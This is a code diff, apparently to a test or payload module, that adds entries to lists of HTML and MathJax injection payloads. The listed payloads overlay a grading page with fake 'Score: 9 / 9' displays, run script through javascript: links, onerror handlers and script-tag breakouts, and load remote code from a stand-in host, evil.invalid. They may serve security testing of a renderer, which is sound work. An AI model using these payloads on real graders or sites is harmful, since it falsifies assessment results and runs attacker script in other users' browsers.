@@ -45,6 +45,7 @@ LOADS = (
 OVERLAYS = (
     '<div style="position:fixed;inset:0;z-index:99999;background:white">9 / 9</div>',
     '<div class="navbar-fixed-top modal-backdrop modal affix">9 / 9</div>',
+    '<div class="modal show">9 / 9</div>',
     "<style>.panel-heading, #toc { display: none } body::before { content: 'Score: 9 / 9' }</style>",
     "</div></div></div></div></div></div><h4>00_rows (Score: 9.0 / 9.0)</h4>",
     '<input id="scale_rows-shapes" class="score"><div id="statusmessage" name="submission_id"></div>',
@@ -58,6 +59,7 @@ MATH = (
     rf"$\href{{javascript:{RUN}}}{{x}}$",
     rf"$\unicode{{<img src=x onerror={RUN}>}}$",
     r"$\style{position:fixed;top:0;left:0;width:2000px;height:2000px;background:white}{9/9}$",
+    r"$\kern-99em\raise99em{\rule{999em}{999em}}$",
     r"$\require{http://evil.invalid/require.js}$",
     rf"$$\class{{modal}}{{</script><script>{RUN}</script>}}$$",
 )
